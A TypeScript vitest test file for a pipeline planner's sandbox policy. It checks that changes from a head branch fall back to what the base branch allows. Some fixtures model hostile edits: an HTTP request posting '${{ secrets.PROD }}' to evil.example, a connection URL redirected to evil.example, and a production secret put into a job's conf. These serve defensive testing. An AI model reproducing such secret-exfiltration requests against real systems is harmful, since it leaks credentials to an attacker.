import { describe, expect, it } from 'vitest'
import { fingerprintsOf } from '../../recipes-schema/fingerprint/fingerprint.ts'
import { sideOf } from '../../recipes-schema/fingerprint/side.ts'
import { underBasePolicy } from '../../recipes-schema/plan/base-policy.ts'
import { planChange } from '../../recipes-schema/plan/plan.ts'
import { nodeId, type Project } from '../../recipes-schema/recipe/types.ts'
import { project, shop } from '../support/project.ts'

const tool = (url: string): string => `{ type: airflow, url: "${url}", token: "\${{ secrets.AF }}" }`
const usual = `af: ${tool('https://af.example')}, test: ${tool('https://test.example')}`

function state(recipe: string, connections = usual): Promise<Project> {
  const files = shop(`variables: { dag: { type: string, default: safe } }\nnodes:\n  n: ${recipe}\n`)
  const galley = (files['galley.yaml'] ?? '').replace('connections: {', `connections: { ${connections},`)
  return project({ ...files, 'galley.yaml': galley, 'recipes/shop/d/dbt_project.yml': 'name: d\n' })
}

const id = nodeId('shop', 'n')
const shas = { base: 'b', head: 'h', merge_base: 'b' }
const own = '{ connection: af, dag: nightly, conf: { n: 1 } }'

/** What the head's kitchen does: the options and the conf that it hands over, or that the plan leaves the node alone. */
async function kitchenOf(base: Project, head: Project): Promise<unknown> {
  const planned = planChange({ base, head, shas }).recipes[0]?.nodes.find(({ node }) => node === 'n')
  expect(planChange({ base: sideOf(base), head, shas })).toEqual(planChange({ base, head, shas }))
  const under = underBasePolicy(head, base)
  // The runner plans what is under the policy; it has to be the plan that was promised.
  expect(planChange({ base, head: under, shas }).digest).toBe(planChange({ base, head, shas }).digest)
  expect(fingerprintsOf(under).full.get(id)).toBe(fingerprintsOf(head).full.get(id))
  const node = under.nodes.get(id)
  if (node?.isUntrusted) {
    expect(node).toMatchObject({ sandbox: null, outside: true })
    // What would run is skipped, and says why; what is reused stays so.
    if (planned?.action !== 'reuse') expect(planned).toMatchObject({ action: 'skip', reason: { because: ['n'] } })
    return 'left alone'
  }
  return node !== undefined && 'sandboxed' in node ? node.sandboxed : null
}

const sandbox = 'sandbox: { dag: nightly_sandbox }'
const safe = { connection: 'af', dag: 'nightly_sandbox', conf: { n: 1 } }

describe('what a kitchen does outside is what its base says', () => {
  const cases: [name: string, base: string, head: string, does: unknown][] = [
    ['an unchanged sandbox', `{ airflow: ${own}, ${sandbox} }`, `{ airflow: ${own}, ${sandbox} }`, null],
    ['another DAG in its place', `{ airflow: ${own}, ${sandbox} }`, `{ airflow: ${own}, sandbox: { dag: nightly } }`, safe],
    ['another conf on production’s server', `{ airflow: ${own}, ${sandbox} }`, `{ airflow: { connection: af, dag: nightly, conf: { n: 2 } }, ${sandbox} }`, safe],
    ['no sandbox, as if it were not outside', `{ airflow: ${own}, ${sandbox} }`, `{ airflow: ${own}, outside: false }`, safe],
    ['a sandbox where there was none', `{ airflow: ${own} }`, `{ airflow: ${own}, ${sandbox} }`, 'left alone'],
    ['production’s own task where there was no sandbox', `{ airflow: ${own} }`, `{ airflow: ${own}, outside: false }`, 'left alone'],
    ['a new node on a known connection', '{ sql: select 1 as x }', `{ airflow: ${own}, sandbox: { dag: nightly } }`, 'left alone'],
    ['a command that was outside', '{ run: "true", outside: true, inputs: [] }', '{ run: "true 1", inputs: [] }', 'left alone'],
    ['other options on a server of its own', `{ airflow: ${own}, sandbox: { connection: test } }`, `{ airflow: { connection: af, dag: other }, sandbox: { connection: af } }`, { connection: 'test', dag: 'other' }],
    ['a secret to that server', `{ airflow: ${own}, sandbox: { connection: test } }`, `{ airflow: { connection: af, dag: nightly, conf: { n: "\${{ secrets.PROD }}" } }, sandbox: { connection: test } }`, { connection: 'test', dag: 'nightly', conf: { n: 1 } }],
    ['a request with a secret', '{ sql: select 1 as x }', '{ http: { url: "https://a.example" }, sandbox: { url: "https://evil.example", body: "${{ secrets.PROD }}" } }', 'left alone'],
    ['a request to elsewhere', '{ http: { url: "https://a.example" }, sandbox: { url: "https://b.example" } }', '{ http: { url: "https://a.example" }, sandbox: { url: "https://evil.example" } }', { url: 'https://b.example' }],
    ['another project of dbt', '{ dbt: { project: d, select: a }, sandbox: { target: test } }', '{ dbt: { project: d, select: b }, sandbox: { target: prod } }', { project: 'd', select: 'b', target: 'test' }],
  ] // biome-ignore format: a table
  it.each(cases)('%s', async (_, before, after, does) => {
    const [base, head] = [await state(before), await state(after)]
    const found = await kitchenOf(base, head)
    if (does === null) expect(underBasePolicy(head, base).nodes.get(id)).toMatchObject({ sandboxed: safe })
    else if (typeof does === 'string') expect(found).toBe(does)
    else expect(found).toMatchObject(does as object)
  })

  it('with the base’s variables', async () => {
    const node = `{ airflow: ${own}, sandbox: { dag: "\${{ vars.dag }}" } }`
    const base = await state(node)
    const files = shop(`variables: { dag: { type: string, default: "it's" } }\nnodes:\n  n: ${node}\n`)
    const galley = (files['galley.yaml'] ?? '').replace('connections: {', `connections: { ${usual},`)
    const head = await project({ ...files, 'galley.yaml': galley })
    expect(await kitchenOf(base, head)).toMatchObject({ dag: "${{ 'safe' }}" })
    expect(await kitchenOf(head, base)).toMatchObject({ dag: "${{ 'it''s' }}" })
  })

  it('and with what the base gives, where it shares a server with production', async () => {
    const node = (day: number): string => `{ airflow: ${own}, with: { day: ${day} }, ${sandbox} }`
    const [base, head] = [await state(node(1)), await state(node(2))]
    expect(underBasePolicy(head, base).nodes.get(id)).toMatchObject({
      parameters: { day: 2 },
      sandboxedWith: { day: 1 },
    })
  })

  it('at the addresses that the base has', async () => {
    const node = `{ airflow: ${own}, ${sandbox} }`
    const [base, head] = [await state(node), await state(node, usual.replace('af.example', 'evil.example'))]
    expect(underBasePolicy(head, base).services.get('af')?.settings.url).toBe('https://af.example')
  })

  it('a new connection with a secret is left alone, one without may be tried', async () => {
    const base = await state('{ sql: select 1 as x }')
    const node = '{ airflow: { connection: mine, dag: d }, sandbox: { dag: e } }'
    const mine = (url: string): Promise<Project> => state(node, `${usual}, mine: ${url}`)
    expect(await kitchenOf(base, await mine(tool('https://evil.example')))).toBe('left alone')
    const open = '{ type: airflow, url: "https://open.example" }'
    expect(await kitchenOf(base, await mine(open))).toMatchObject({ connection: 'mine', dag: 'e' })
  })

  it('a new node may do what the base lets another one do', async () => {
    const node = `{ airflow: ${own}, ${sandbox} }`
    const base = await state(node)
    const renamed = await state(`${node}\n  m: ${node}`)
    const plan = planChange({ base, head: renamed, shas })
    expect(plan.recipes[0]?.nodes.find((one) => one.node === 'm')?.action).toBe('run')
  })
})
